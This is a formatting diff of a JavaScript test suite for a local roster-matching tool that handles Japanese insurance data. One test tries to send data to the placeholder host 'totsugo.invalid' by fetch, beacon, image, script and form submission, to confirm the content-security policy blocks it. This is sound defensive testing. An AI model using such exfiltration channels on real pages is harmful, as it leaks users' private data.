@@ -34,8 +34,16 @@ test("unusable files: one message, back at the files, nothing to export", async 
     { name: "an overlap list as roster", files: { roster: sample.overlaps[0] }, file: sample.overlaps[0] },
     { name: "an empty file", files: { roster: made("empty.csv", "") }, file: "empty.csv" },
     { name: "a roster of 0 rows", files: { roster: made("header_only.csv", header) }, file: "header_only.csv" },
-    { name: "a picture", files: { pension: made("picture.csv", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex")) }, file: "picture.csv" },
-    { name: "the same run twice", files: { overlaps: [sample.overlaps[0], made("copy.csv", readFileSync(sample.overlaps[0]))] }, soft: true },
+    {
+      name: "a picture",
+      files: { pension: made("picture.csv", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex")) },
+      file: "picture.csv",
+    },
+    {
+      name: "the same run twice",
+      files: { overlaps: [sample.overlaps[0], made("copy.csv", readFileSync(sample.overlaps[0]))] },
+      soft: true,
+    },
   ];
   let ran = 0;
   for (const { name, files, file, soft } of cases) {
@@ -64,8 +72,22 @@ test("a run can be cancelled, and then done", async () => {
   // The sample and then one person, who is on no list, over and over: long enough to be stopped on the way.
   const all = decoded(sample.roster);
   const [header] = all.split(/\r?\n/);
-  const nobody = { 宛名番号: "999999999999999", 記号番号: "999999999", 枝番: "01", 氏名: "架空　無人", 氏名カナ: "カクウ　ムジン", 生年月日: "19510101", 性別: "男", 資格取得年月日: "20000401" };
-  const row = Buffer.from(`${header.split(",").map((h) => nobody[h] ?? "").join(",")}\r\n`);
+  const nobody = {
+    宛名番号: "999999999999999",
+    記号番号: "999999999",
+    枝番: "01",
+    氏名: "架空　無人",
+    氏名カナ: "カクウ　ムジン",
+    生年月日: "19510101",
+    性別: "男",
+    資格取得年月日: "20000401",
+  };
+  const row = Buffer.from(
+    `${header
+      .split(",")
+      .map((h) => nobody[h] ?? "")
+      .join(",")}\r\n`,
+  );
   const block = Buffer.concat(Array.from({ length: Math.ceil((16 << 20) / row.length) }, () => row));
   const big = join(it.folder, "big_roster.csv");
   const fd = openSync(big, "w");
@@ -155,7 +177,11 @@ test("files are dropped, doubted and removed", async () => {
   assert.deepEqual(await names("roster"), ["roster.csv"]);
   const lists = await names("overlap");
   assert.ok(lists.length >= sample.overlaps.length);
-  await tool.id("chosen-overlap").first().getByRole("button", { name: /取り除く/ }).click();
+  await tool
+    .id("chosen-overlap")
+    .first()
+    .getByRole("button", { name: /取り除く/ })
+    .click();
   assert.equal((await names("overlap")).length, lists.length - 1);
   await tool.innocent();
   await tool.close();
@@ -196,12 +222,64 @@ test("a terminal that lacks something is told so in plain words", async () => {
 
 test("the policy keeps data in: it refuses what a fault or a fraud might try", async () => {
   const tries = [
-    ["fetch", () => fetch("https://totsugo.invalid/").then(() => "sent", () => "refused")],
-    ["beacon", () => { navigator.sendBeacon("https://totsugo.invalid/", "x"); return "tried"; }],
-    ["image", () => new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("refused"); i.src = "https://totsugo.invalid/x.png"; })],
-    ["script", () => { try { document.createElement("script").src = "https://totsugo.invalid/x.js"; return "sent"; } catch { return "refused"; } }],
-    ["markup", () => { try { document.createElement("div").innerHTML = "<b>x</b>"; return "sent"; } catch { return "refused"; } }],
-    ["form", () => { const f = document.createElement("form"); f.action = "https://totsugo.invalid/"; document.body.append(f); f.submit(); f.remove(); return "tried"; }],
+    [
+      "fetch",
+      () =>
+        fetch("https://totsugo.invalid/").then(
+          () => "sent",
+          () => "refused",
+        ),
+    ],
+    [
+      "beacon",
+      () => {
+        navigator.sendBeacon("https://totsugo.invalid/", "x");
+        return "tried";
+      },
+    ],
+    [
+      "image",
+      () =>
+        new Promise((done) => {
+          const i = new Image();
+          i.onload = () => done("sent");
+          i.onerror = () => done("refused");
+          i.src = "https://totsugo.invalid/x.png";
+        }),
+    ],
+    [
+      "script",
+      () => {
+        try {
+          document.createElement("script").src = "https://totsugo.invalid/x.js";
+          return "sent";
+        } catch {
+          return "refused";
+        }
+      },
+    ],
+    [
+      "markup",
+      () => {
+        try {
+          document.createElement("div").innerHTML = "<b>x</b>";
+          return "sent";
+        } catch {
+          return "refused";
+        }
+      },
+    ],
+    [
+      "form",
+      () => {
+        const f = document.createElement("form");
+        f.action = "https://totsugo.invalid/";
+        document.body.append(f);
+        f.submit();
+        f.remove();
+        return "tried";
+      },
+    ],
   ];
   let ran = 0;
   for (const [name, attempt] of tries) {
